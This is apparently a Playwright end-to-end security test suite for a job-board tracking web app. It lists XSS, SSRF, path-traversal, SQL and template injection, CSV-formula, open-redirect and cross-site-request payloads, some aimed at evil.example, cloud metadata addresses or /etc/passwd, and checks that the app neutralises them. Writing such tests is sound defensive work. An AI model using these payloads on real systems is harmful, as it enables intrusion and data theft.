"""What boards, pasted addresses, searches, notes and other sites may try, as a browser sees it.

In this order: HTML and links in descriptions, text in a line, addresses that parsers read differently, other
schemes, searches, notes, formulas, figures, other sites, where signing in leads, odd paths, files brought in.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page, expect
from prometheus_client.parser import text_string_to_metric_families
from sqlalchemy import func, select, update

from scout import account, importing, jobs, runs, scanning, watchlist, welcome
from scout.database import Database
from scout.models import Job, Listing, RunTrigger, ScanState, Source
from scout.settings import Settings, load
from scout.sources.board import Board
from tests.databases import make_tables
from tests.e2e.pages import LOOKS, PASSWORD, Open
from tests.scan_world import NoQueue
from tests.serving import Asked, Reply, Server, reply, serving

#: A description each; whatever runs would write this word where the tests look.
MARK = "taken"
HTML = {
    "script": f"<script>document.title='{MARK}'</script>",
    "script-in-svg": f"<svg><script>document.title='{MARK}'</script></svg>",
    "image-error": f"<img src=x onerror=document.title='{MARK}'>",
    "svg-load": f"<svg onload=document.title='{MARK}'>",
    "details-toggle": f"<details open ontoggle=document.title='{MARK}'>more</details>",
    "link": f"<a id=bait href=\"javascript:document.title='{MARK}'\">apply</a>",
    "link-tabbed": f"<a id=bait href=\"java&#9;script:document.title='{MARK}'\">apply</a>",
    "link-data": f"<a id=bait href=\"data:text/html,<script>opener.title='{MARK}'</script>\">apply</a>",
    "frame": f"<iframe srcdoc=\"<script>parent.document.title='{MARK}'</script>\"></iframe>",
    "object": "<object data=https://evil.example/x></object><embed src=https://evil.example/y>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "base": "<base href=https://evil.example/><a href=/jobs>all jobs</a>",
    "form": "<form action=https://evil.example/><input name=password><button>Sign in again</button></form>",
    "style": "<style>@import 'https://evil.example/x.css'; .job-head{display:none}</style>",
    "cover": "<p style='position:fixed;inset:0;background:url(https://evil.example/z)'>cover</p>",
    "mutation-math": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title=\"--&gt;&lt;img src=1 onerror=document.title='{MARK}'&gt;\">",
    "mutation-noscript": f"<noscript><p title=\"</noscript><img src=x onerror=document.title='{MARK}'>\">",
    "template": "{{ config }} {% for x in [1] %}{{ x }}{% endfor %} ${7*7} <%= 7*7 %>",
    "clobber": "<a id=announcer>x</a><input id=main name=body><img name=getElementById>",
    "nested": "<b>" * 5000 + "deep",
    "htmx": '<p hx-get="/jobs/1/status" hx-trigger="load" data-keys-on data-job data-announce="x">hx</p>',
}  # fmt: skip
TITLES = {
    "markup": "<b>Lead</b> <script>document.title='taken'</script> Engineer",
    "right-to-left": "Engineer \u202egnp.exe\u202c IAM",
    "isolates": "IAM \u2066\u2067Engineer\u2069",
    "zero-width": "I\u200bA\u200bM Engineer\ufeff",
    "nul": "IAM\x00 Engineer",
    "half-a-pair": "IAM \ud83d Engineer",
    "emoji": "IAM Engineer 👩🏽‍💻🏳️‍🌈",
    "one-word": "I" * 5_000,
    "megabyte": "IAM " * 250_000,
    "template": "{{ 7 * 7 }} {% raw %} IAM",
    "formula": '=HYPERLINK("https://evil.example","IAM")',
    "formula-at": "@SUM(1+1) IAM",
    "combining": "I" + "\u0301" * 200 + "AM",
}  # fmt: skip
LINKS = (
    "javascript:document.title='taken'",
    " javascript:document.title='taken'",
    "JaVaScRiPt:document.title='taken'",
    "data:text/html,<script>document.title='taken'</script>",
    "file:///etc/passwd",
    "vbscript:x",
    "//evil.example/x",
)
COMPANIES = (
    "a:1|c\nb:2|c",
    "x|#tag:1,other:2",
    "dots.and.stars.*",
    "new\r\nline\r\nSet-Cookie: a=b",
    "\u2028separator\u2029",
)


def postings() -> Iterator[dict[str, Any]]:
    for name, html in HTML.items():
        yield {"title": f"IAM Engineer {name}", "content": f"<p>Okta.</p>{html}<p>The end.</p>"}
    for title in TITLES.values():
        yield {"title": title}
    for link in LINKS:
        yield {"title": "IAM Engineer by link", "absolute_url": link}
    for company in COMPANIES:
        yield {"title": "IAM Engineer of a company", "company_name": company}
    yield {
        "title": "IAM Engineer of a place",
        "location": {"name": "<img src=x onerror=document.title='taken'>"},
    }
    yield {"title": "IAM Engineer of a team", "departments": [{"name": "{{7*7}}</p><script>x</script>"}]}


def board() -> bytes:
    """All of it as one answer of a board; lone surrogates and NULs travel as JSON writes them."""
    whole: dict[str, Any] = {"location": {"name": "Berlin"}, "content": "<p>Okta and SAML.</p>"}
    found = [
        {**whole, "id": number, "absolute_url": f"https://x.example/{number}", **each}
        for number, each in enumerate(postings(), 1)
    ]
    return json.dumps({"jobs": found}).encode()


def answer(asked: Asked) -> Reply:
    return (
        reply(board(), Content_Type="application/json") if "/v1/boards/" in asked.path else reply(status=404)
    )


@pytest.fixture(scope="module")
def hostile() -> Iterator[Server]:
    with serving(answer) as server:
        yield server


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory, hostile: Server) -> Settings:
    given = load({"SCOUT_DATA_DIR": str(tmp_path_factory.mktemp("hostile"))})
    return dataclasses.replace(
        given,
        origin_overrides={"https://boards-api.greenhouse.io": hostile.origin},
        pushgateway_url="http://127.0.0.1:1",
    )


@pytest.fixture(scope="module")
def database(settings: Settings) -> Iterator[Database]:
    """What a real scan of the hostile board stored."""
    make_tables(settings)
    opened = Database.open(settings)
    with opened.session() as session:
        account.ensure(session, PASSWORD)
        welcome.over(session)
        url = "https://job-boards.greenhouse.io/hostile"
        slug = watchlist.add(
            session, Board(kind="greenhouse", token="hostile", company="<i>Evil</i> Inc", url=url)
        ).slug
    run_id = runs.request(opened, NoQueue(), trigger=RunTrigger.OWNER, slugs=[slug])
    with opened.reading() as session:
        (result,) = runs.get(session, run_id).results
    scanning.scan(opened, settings, result.id, worker="test")
    with opened.reading() as session:
        (result,) = runs.get(session, run_id).results
        # Postings whose links lead nowhere that a browser may go are not stored at all.
        kept = len(list(postings())) - len(LINKS)
        assert (result.state, result.seen) == (ScanState.PARTIAL, kept), result.error
        assert "no link that can be followed" in result.error
    yield opened
    opened.dispose()


def job_of(database: Database, number: int) -> int:
    with database.reading() as session:
        found = session.scalar(select(Listing.job_id).where(Listing.source_job_id == str(number)))
    assert found is not None
    return found


def number_of(name: str) -> int:
    return next(at for at, each in enumerate(postings(), 1) if each["title"] == f"IAM Engineer {name}")


def unharmed(page: Page) -> None:
    """Nothing of what came from outside runs, reaches out, listens or leads where it must not."""
    assert page.title() != MARK
    wrong = page.evaluate(
        r"""() => {
          const odd = "script, iframe, object, embed, base, meta, style, link, math";
          const leads = /^(href|src|action|formaction|xlink:href)$/;
          const runs = /^[\s\0]*(javascript|data|vbscript|file):/i;
          return [...document.querySelectorAll("main *")].flatMap((element) => {
            const found = [];
            if (element.matches(odd)) found.push(element.tagName);
            for (const { name, value } of element.attributes) {
              if (name.startsWith("on") || name === "style" || name === "srcdoc") found.push(name);
              if (leads.test(name) && runs.test(value)) found.push(value);
            }
            return found;
          });
        }"""
    )
    assert wrong == []


# --- What boards write at length ---------------------------------------------------------------------


@pytest.mark.parametrize("name", HTML)
def test_a_description_is_shown_and_nothing_in_it_acts(opened: Open, database: Database, name: str) -> None:
    with opened() as page:
        page.goto(f"/jobs/{job_of(database, number_of(name))}")
        unharmed(page)
        text = page.inner_text(".description")
        assert "Okta." in text
        assert "The end." in text or name in {"nested", "mutation-math"}, "its opening swallows what follows"
        expect(
            page.locator(".description > :not(h2) [id], .description [hx-get], .description input")
        ).to_have_count(0)
        expect(page.locator(".job-head")).to_be_visible()
        if bait := page.locator(".description a", has_text="apply").element_handles():
            assert not bait[0].get_attribute("href")
        if name == "template":
            assert "{{ config }}" in text


# --- What they write in a line -------------------------------------------------------------------


def test_titles_companies_and_places_are_text_in_the_list(opened: Open, database: Database) -> None:
    with opened(**LOOKS["phone"]) as page:
        page.goto("/?status=all")
        unharmed(page)
        shown = page.inner_text("main")
        assert "<b>Lead</b> <script>" in shown
        assert "{{ 7 * 7 }}" in shown
        assert not set(shown) & set("\u202e\u2066\u2067\u202c\x00")
        assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
        page.goto("/sources")
        unharmed(page)
        expect(page.locator("main")).to_contain_text("<i>Evil</i> Inc", use_inner_text=True)


@pytest.mark.parametrize("name", TITLES)
def test_a_job_with_any_title_can_be_opened_and_kept(opened: Open, database: Database, name: str) -> None:
    number = next(at for at, each in enumerate(postings(), 1) if each["title"] == TITLES[name])
    with opened(**LOOKS["small-dark-phone"]) as page:
        page.goto(f"/jobs/{job_of(database, number)}")
        unharmed(page)
        assert 0 < len(page.inner_text("h1")) < 2_000
        assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
        page.get_by_role("button", name="Save", exact=True).click()
        page.get_by_role("button", name="Undo").first.click()
        page.get_by_role("button", name="Save", exact=True).wait_for()


@pytest.mark.parametrize("link", LINKS)
def test_a_link_that_came_in_all_the_same_leads_nowhere(opened: Open, database: Database, link: str) -> None:
    """As if an older version had stored it: with the first wall away, the second one stands."""
    job_id = job_of(database, 3)
    with database.session() as session:
        session.execute(update(Job).where(Job.id == job_id).values(url=link))
        session.execute(update(Listing).where(Listing.job_id == job_id).values(url=link))
    with opened() as page:
        for path in (f"/jobs/{job_id}", "/?status=all"):
            page.goto(path)
            unharmed(page)
            protocols = page.eval_on_selector_all("main a[href]", "all => all.map((link) => link.protocol)")
            assert set(protocols) <= {"http:", "https:"}


# --- Addresses that are pasted ---------------------------------------------------------------------

ADDRESSES = (
    "file:///etc/passwd",
    "source:file:///etc/passwd",
    "gopher://127.0.0.1:6379/_x",
    "ftp://evil.example/jobs",
    "data:text/html,<script>alert(1)</script>",
    "javascript:alert(1)",
    "http://127.0.0.1:9102/metrics",
    "http://[::1]/",
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254:8888\\@jobs.lever.co/x",
    "https://jobs.lever.co\\@evil.example/veeva",
    "https://jobs.lever.co@evil.example/veeva",
    "https://user:secret@jobs.lever.co/veeva",
    "https://jobs.lever.co\t.evil.example/veeva",
    "https://jobs.lever.co%00.evil.example/veeva",
    "https://evil.example#jobs.lever.co/veeva",
    "https://evil.example/?https://jobs.lever.co/veeva",
    "https://jobs.lever.co.evil.example/veeva",
    "https://jobs.lеver.co/veeva",  # a Cyrillic letter  # noqa: RUF001 - that is the attack
    "http://0x7f000001/",
    "http://2130706433/",
    "http://127.1/",
    "https://jobs.lever.co/../../v0/postings",
    "https://jobs.lever.co/" + "a" * 5_000,
    "<script>document.title='taken'</script>",
)


@pytest.mark.parametrize("pasted", ADDRESSES)
def test_an_address_that_is_no_board_is_refused_in_words(
    opened: Open, database: Database, pasted: str
) -> None:
    with opened(expected="400") as page:
        page.goto("/sources")
        page.evaluate("document.querySelector('[name=url]').removeAttribute('maxlength')")
        page.locator("[name=url]").first.evaluate(
            "(field, text) => { field.type = 'text'; field.value = text; }", pasted
        )
        page.locator("form:has([name=url]) button").first.click()
        page.locator("[role=alert], .problem").first.wait_for()
        unharmed(page)
        assert "Traceback" not in page.content()
        expect(page.locator("[role=alert], .problem").first).not_to_contain_text("secret")
    with database.reading() as session:
        assert session.scalar(select(func.count()).select_from(Source)) == 1


# --- What is searched for and written --------------------------------------------------------------------

SEARCHES = (
    "\"><script>document.title='taken'</script>",
    "' OR 1=1 --",
    '"',
    '"unclosed phrase',
    "NEAR(iam okta, 5) AND * ^ {title company}: -",
    "title:* OR rowid:1",
    "-",
    "--------",
    "new:99999999999999999999d score:>1e999 salary:>-k status:nothing source:../../etc",
    "%00\x00%",
    "\u202eMAI",
    "a " * 5_000,
    "(" * 500,
    "{{7*7}} ${7*7}",
    "\\'; DROP TABLE jobs; --",
)


@pytest.mark.parametrize("search", SEARCHES)
def test_any_search_is_answered_and_shown_as_it_was_written(opened: Open, search: str) -> None:
    with opened() as page:
        page.goto(f"/?status=all&q={quote(search)}")
        unharmed(page)
        expect(page.locator("[name=q]").first).to_be_visible()
        expect(page.locator("main")).not_to_contain_text("Something broke")


WRITTEN = (
    "<script>document.title='taken'</script> plain",
    "[apply](javascript:document.title='taken') plain",
    "![x](https://evil.example/pixel.png) plain",
    "<img src=x onerror=document.title='taken'> plain",
    "[x]: javascript:document.title='taken'\n\n[x] plain",
    "[a](data:text/html;base64,PHNjcmlwdD4=) plain",
    "{{ config }} plain",
    "\u202eplain\u202c plain",
)


@pytest.mark.parametrize("text", WRITTEN)
def test_a_note_is_the_owners_words_and_nothing_more(opened: Open, database: Database, text: str) -> None:
    job_id = job_of(database, 1)
    with opened() as page:
        page.goto(f"/jobs/{job_id}")
        page.locator("#notes form textarea[name=body]").last.fill(text)
        page.get_by_role("button", name="Add note").click()
        page.locator("#notes").get_by_text("plain").first.wait_for()
        unharmed(page)
        expect(page.locator("#notes img")).to_have_count(0)


def test_what_is_planned_is_text_everywhere(opened: Open, database: Database) -> None:
    job_id = job_of(database, 1)
    with opened() as page:
        page.goto(f"/jobs/{job_id}")
        page.locator("[name=what]").first.fill("\"><script>document.title='taken'</script> call")
        page.locator("#plan button").first.click()
        page.wait_for_load_state()
        for path in (f"/jobs/{job_id}", "/?status=all"):
            page.goto(path)
            unharmed(page)


# --- What leaves ---------------------------------------------------------------------------------


def test_a_table_that_is_downloaded_holds_no_formula(opened: Open, database: Database) -> None:
    with opened() as page:
        answer = page.context.request.get("/export.csv?status=all")
        assert answer.status == 200
        rows = list(csv.reader(io.StringIO(answer.text())))
        cells = [cell for row in rows[1:] for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert [cell for cell in cells if cell[:1] in {"=", "+", "@", "\t", "\r"}] == []
        titles = [each["title"] for each in page.context.request.get("/export.json?status=all").json()]
        assert TITLES["formula"] in titles


def test_names_from_boards_do_not_reach_the_figures(opened: Open) -> None:
    with opened() as page:
        text = page.context.request.get("/metrics").text()
    names = {
        sample.labels.get("source", "")
        for family in text_string_to_metric_families(text)
        for sample in family.samples
    }
    assert not any("evil" in name.lower() for name in names)


# --- Other sites -----------------------------------------------------------------------------

NEXT = (
    "//evil.example",
    "/\\evil.example",
    "https:evil.example",
    "https://evil.example/sources",
    "/%09/evil.example",
    "javascript:alert(1)",
    "/sign-out",
)


@pytest.mark.parametrize("wanted", NEXT)
def test_signing_in_leads_to_our_own_pages_alone(
    chromium: Browser, address: str, database: Database, wanted: str
) -> None:
    context = chromium.new_context(base_url=address)
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda each: asked.append(each.url))
    page.goto(f"/sign-in?next={quote(wanted, safe='')}")
    page.fill("input[type=password]", PASSWORD)
    page.click("main button[type=submit]")
    page.wait_for_url(f"{address}/")
    assert [each for each in asked if not each.startswith(address)] == []
    context.close()


def elsewhere(address: str, job_id: int) -> bytes:
    """Another site's page: it sends forms to ours, frames it, and reads from it."""
    return f"""<!doctype html><title>Elsewhere</title>
<form id=change method=post action="{address}/jobs/{job_id}/status"><input name=to value=dismissed></form>
<form id=out method=post action="{address}/sign-out"></form>
<form id=board method=post action="{address}/sources"><input name=url value="https://jobs.lever.co/veeva"></form>
<iframe name=framed src="{address}/"></iframe>
<script>
  const ours = fetch("{address}/export.json", {{ credentials: "include" }});
  window.read = ours.then(() => "read", () => "refused");
</script>""".encode()


@pytest.mark.parametrize("form", ["change", "out", "board"])
def test_another_sites_form_changes_nothing(
    opened: Open, database: Database, address: str, form: str
) -> None:
    job_id = job_of(database, 2)
    # Another name for this machine is another site to the browser.
    with serving(lambda _: reply(elsewhere(address, job_id), Content_Type="text/html")) as evil:
        there = evil.origin.replace("127.0.0.1", "localhost")
        with opened(expected="") as page:
            page.context.on("page", lambda _: None)
            visit = page.context.new_page()
            visit.goto(there)
            assert visit.evaluate("window.read") == "refused"
            framed = visit.frame("framed")
            assert framed is None or "IAM Job Scout" not in framed.content()
            with visit.expect_navigation():
                visit.evaluate(f"document.getElementById('{form}').submit()")
            visit.close()
            page.goto("/")
            expect(page, "still signed in").to_have_url("/")
    with database.reading() as session:
        assert jobs.get(session, job_id).status.value == "new"
        assert session.scalar(select(func.count()).select_from(Source)) == 1


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/nothing",
        "/static/../../etc/passwd",
        "/static/%2e%2e/secret_key",
        "/jobs/1e9",
        "/jobs/-1",
        "/jobs/99999999999999999999",
        "/sources/%00",
        "/sources/..%2f..%2fetc",
        "/feeds/1-x.atom",
    ],
)
def test_an_odd_path_is_answered_by_a_page_under_the_policy(opened: Open, path: str) -> None:
    with opened(expected="40") as page:
        answer = page.context.request.get(path, headers={"Accept": "text/html"}, max_redirects=0)
        assert answer.status in {200, 303, 308, 400, 404}
        assert "default-src 'none'" in answer.headers["content-security-policy"]
        assert "Traceback" not in answer.text()
        assert "root:" not in answer.text()


# --- Files that are brought in -----------------------------------------------------------------------


def test_a_file_that_is_brought_in_is_text_too(
    opened: Open, settings: Settings, database: Database, tmp_path: Path
) -> None:
    file = tmp_path / "tracker.csv"
    with file.open("w", newline="", encoding="utf-8") as opened_file:
        table = csv.writer(opened_file)
        table.writerow(["Company", "Position", "Link", "Status", "Notes"])
        table.writerow(
            [
                "<img src=x onerror=document.title='taken'>",
                "IAM <script>x</script>",
                "javascript:alert(1)",
                "Applied",
                HTML["script"],
            ]
        )
        table.writerow(["=1+1", "@IAM", "file:///etc/passwd", "no such status", "\u202e"])
    importing_report = importing.bring_in(database, file, {})
    assert importing_report is not None
    with opened() as page:
        page.goto("/?status=all&q=script")
        unharmed(page)
        page.goto("/?status=applied")
        unharmed(page)
        page.locator("[data-open]").first.click()
        page.wait_for_load_state()
        unharmed(page)
